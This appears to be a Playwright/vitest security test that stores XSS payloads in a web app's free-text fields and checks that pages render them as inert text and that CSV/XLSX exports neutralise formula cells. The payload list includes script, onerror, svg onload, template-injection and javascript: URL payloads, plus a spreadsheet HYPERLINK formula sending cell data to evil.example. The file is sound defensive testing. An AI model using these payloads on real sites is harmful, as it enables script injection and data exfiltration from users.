import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEMO_PASSWORD } from '../server/src/seed/demo.js';
import type { Role } from '../server/src/platform/db/schema.js';
import { demoEmail, launchBrowser, startServer } from '../e2e/harness.js';
import { recordFigures } from './figures.js';

/**
 * Issue 10.2 — stored XSS. Hostile values are stored in the free-text fields
 * users see (names of people, organisations and users, case questions and
 * activity notes, training titles, venues and feedback, mediation
 * descriptions, thread subjects and messages, grant round titles and notes,
 * programme titles and notes, saved filter names, notification links), then
 * the pages that show them are opened in Chromium as users who see them.
 * No script may run (window.__xss stays undefined, no dialog opens), the
 * hostile text must be on the page as literal text, and CSP violations are
 * counted (a second pass with the app's CSP enforced; the first bypasses it so
 * that the CSP cannot hide an escaping fault). CSV and XLSX exports of the
 * stored values must neutralise cells starting with = + - @.
 *
 * Needs the built web app (`npm run build:web`) and Debian's Chromium.
 */
const HIT = 'window.__xss=(window.__xss||0)+1';
const PAYLOADS = [
  `=HYPERLINK("https://evil.example/?"&A1,"x")`,
  `<img src=x onerror="${HIT}">`,
  `<script>${HIT}</script>`,
  `"><svg onload="${HIT}">`,
  `{{constructor.constructor('${HIT}')()}}`,
  `'><iframe srcdoc="<script>parent.${HIT}</script>">`,
];
/** What each payload shows as literal text. */
const LITERAL_HEADS = ['<img src=x onerror=', '<script>window.__xss', '"><svg onload=', "{{constructor.constructor('", '<iframe srcdoc='];

/** Free-text columns shown in the UI: [table, column, extra where]. Missing tables or columns fail the test (the list must follow the schema). */
const FIELDS: [string, string][] = [
  ['people', 'first_name'],
  ['people', 'last_name'],
  ['organisations', 'name'],
  ['users', 'name'],
  ['cases', 'question'],
  ['case_activities', 'notes'],
  ['trainings', 'title'],
  ['training_groups', 'venue'],
  ['training_feedback', 'most_useful'],
  ['training_feedback', 'improve'],
  ['mediation_proceedings', 'description'],
  ['mediation_threads', 'subject'],
  ['mediation_messages', 'body'],
  ['grant_rounds', 'title'],
  ['grant_rounds', 'notes'],
  ['programme_subactivities', 'title'],
  ['programme_notes', 'note'],
  ['saved_filters', 'name'],
];

interface View {
  role: Role;
  path: string;
  /** A list API whose first item's id opens a detail page: [api, page prefix]. */
  detail?: [string, string];
}

const VIEWS: View[] = [
  { role: 'kov_worker', path: '/' },
  { role: 'kov_worker', path: '/people', detail: ['/api/people', '/people/'] },
  { role: 'kov_worker', path: '/cases', detail: ['/api/cases', '/cases/'] },
  { role: 'ska_specialist', path: '/cases', detail: ['/api/cases', '/cases/'] },
  { role: 'kov_worker', path: '/trainings', detail: ['/api/trainings', '/trainings/'] },
  { role: 'ska_manager', path: '/trainings/groups' },
  { role: 'trainer', path: '/trainings' },
  { role: 'kov_worker', path: '/trainings/registrations' },
  { role: 'mediator', path: '/mediation', detail: ['/api/mediation/proceedings', '/mediation/'] },
  { role: 'client', path: '/mediation', detail: ['/api/mediation/proceedings', '/mediation/'] },
  { role: 'ska_contact', path: '/mediation', detail: ['/api/mediation/proceedings', '/mediation/'] },
  { role: 'ministry_officer', path: '/grants', detail: ['/api/grants/rounds', '/grants/rounds/'] },
  { role: 'ministry_officer', path: '/grants/applications', detail: ['/api/grants/applications', '/grants/applications/'] },
  { role: 'kov_worker', path: '/grants/applications' },
  { role: 'ska_manager', path: '/programme' },
  { role: 'admin', path: '/admin/users' },
  { role: 'admin', path: '/admin/organisations' },
  { role: 'kov_worker', path: '/notifications' },
];

let server: Awaited<ReturnType<typeof startServer>>;
let browser: Browser;
const figures = { payloads: 0, views: 0, scriptsRun: 0 };
const cspViolations: string[] = [];
const notes: string[] = [];

beforeAll(async () => {
  server = await startServer();
  browser = await launchBrowser();
  const db = server.database.db;
  let i = 0;
  for (const [table, column] of FIELDS) {
    const payload = PAYLOADS[i++ % PAYLOADS.length]!;
    // Prefixed, so the value stays unique where it must and still reads as the record it was.
    const result = await sql`update ${sql.table(table)} set ${sql.ref(column)} = ${payload} || ' ' || coalesce(${sql.ref(column)}, '')`.execute(db);
    figures.payloads += Number(result.numAffectedRows ?? 0);
  }
  // A saved filter and a notification of the KOV worker, whose link is a javascript: URL.
  const kov = await db.selectFrom('users').select('id').where('email', '=', demoEmail('kov_worker')).executeTakeFirstOrThrow();
  await db.insertInto('saved_filters').values({ user_id: kov.id, list: 'people', name: PAYLOADS[1]!, query: '{}' }).execute();
  await sql`insert into notifications (user_id, kind, title_key, params, link) select ${kov.id}, kind, title_key, params, ${`javascript:${HIT}`} from notifications limit 1`.execute(db).catch(() => undefined);
  figures.payloads += 2;
}, 300_000);

afterAll(async () => {
  recordFigures('xss', figures, [`${cspViolations.length} CSP violation reports with the app's CSP enforced${cspViolations.length ? `: ${[...new Set(cspViolations)].slice(0, 10).join('; ')}` : ''}`, ...notes]);
  await browser?.close();
  await server?.close();
});

async function open(role: Role, enforceCsp: boolean): Promise<{ page: Page; dialogs: string[] }> {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, locale: 'et-EE', timezoneId: 'Europe/Tallinn', bypassCSP: !enforceCsp });
  await context.addInitScript(() => {
    const w = window as unknown as { __csp: string[] };
    w.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__csp.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`.trim()));
  });
  const page = await context.newPage();
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.goto(`${server.url}/login`);
  await page.getByTestId('login-email').fill(demoEmail(role));
  await page.getByTestId('login-password').fill(DEMO_PASSWORD);
  await page.getByTestId('login-submit').click();
  await page.getByTestId('logout').waitFor();
  return { page, dialogs };
}

async function check(page: Page, dialogs: string[], label: string, enforceCsp: boolean): Promise<boolean> {
  await page.waitForLoadState('networkidle');
  const state = await page.evaluate(() => {
    const w = window as unknown as { __xss?: number; __csp: string[] };
    return { xss: w.__xss ?? 0, csp: w.__csp, text: document.body.innerText };
  });
  figures.views++;
  figures.scriptsRun += state.xss + dialogs.length;
  if (enforceCsp) cspViolations.push(...state.csp.map((v) => `${label}: ${v}`));
  expect.soft(state.xss, `${label}: a stored script ran`).toBe(0);
  expect.soft(dialogs, `${label}: a dialog opened`).toEqual([]);
  return LITERAL_HEADS.some((head) => state.text.includes(head));
}

describe('stored XSS in Chromium (issue 10.2)', () => {
  it('hostile values were stored', () => {
    expect(figures.payloads).toBeGreaterThan(100);
  });

  it('the detector sees a script that runs (a payload put into the page as HTML, outside the app)', async () => {
    const { page } = await open('kov_worker', false);
    try {
      await page.evaluate((html) => document.body.insertAdjacentHTML('beforeend', html), PAYLOADS[1]!);
      await page.waitForFunction(() => (window as unknown as { __xss?: number }).__xss === 1);
    } finally {
      await page.context().close();
    }
  });

  for (const enforceCsp of [false, true]) {
    it(`no stored value runs as script, every page shows one as text (${enforceCsp ? "app's CSP enforced" : 'CSP bypassed: escaping alone'})`, async () => {
      const withoutText: string[] = [];
      for (const view of VIEWS) {
        const { page, dialogs } = await open(view.role, enforceCsp);
        try {
          await page.goto(`${server.url}${view.path}`);
          const label = `${view.role} ${view.path}`;
          if (!(await check(page, dialogs, label, enforceCsp))) withoutText.push(label);
          if (view.detail) {
            const [api, prefix] = view.detail;
            const id = await page.evaluate(async (url) => {
              const response = await fetch(url);
              const body = (await response.json()) as { items?: { id: string }[] } | { id: string }[];
              return (Array.isArray(body) ? body : (body.items ?? []))[0]?.id ?? null;
            }, api);
            if (id) {
              await page.goto(`${server.url}${prefix}${id}`);
              if (!(await check(page, dialogs, `${view.role} ${prefix}:id`, enforceCsp))) withoutText.push(`${view.role} ${prefix}:id`);
            } else notes.push(`${view.role}: ${api} listed nothing to open`);
          }
          // javascript: links: click every anchor whose href is one (none should exist).
          const jsLinks = await page.locator('a[href^="javascript:" i]').count();
          expect.soft(jsLinks, `${label}: an anchor with a javascript: URL`).toBe(0);
        } finally {
          await page.context().close();
        }
      }
      if (!enforceCsp) notes.push(`${withoutText.length} views showed none of the stored payloads as text${withoutText.length ? `: ${withoutText.join(', ')}` : ''}`);
      expect(figures.scriptsRun).toBe(0);
      expect(withoutText.length, `views without a payload visible: ${withoutText.join(', ')}`).toBeLessThan(VIEWS.length / 3);
    });
  }

  it('CSV and XLSX exports neutralise cells starting with = + - @', async () => {
    const { page } = await open('kov_worker', false);
    try {
      for (const list of ['/api/people/export', '/api/cases/export', '/api/trainings/registrations/export']) {
        const csv = await page.request.get(`${server.url}${list}?format=csv`);
        expect(csv.status(), list).toBe(200);
        const text = await csv.text();
        const cells = text.split(/\r?\n/).flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)).map((c) => c.replace(/^"|"$/g, ''));
        expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c)), `${list} csv`).toEqual([]);
        const xlsx = await page.request.get(`${server.url}${list}?format=xlsx`);
        expect(xlsx.status(), list).toBe(200);
        const book = new ExcelJS.Workbook();
        await book.xlsx.load((await xlsx.body()) as unknown as ArrayBuffer);
        const bad: string[] = [];
        book.eachSheet((sheet) =>
          sheet.eachRow((row) =>
            row.eachCell((cell) => {
              if (typeof cell.value === 'string' && /^[=+\-@\t\r]/.test(cell.value)) bad.push(cell.value);
              if (cell.formula) bad.push(`formula ${cell.formula}`);
            }),
          ),
        );
        expect(bad, `${list} xlsx`).toEqual([]);
      }
    } finally {
      await page.context().close();
    }
  });
});
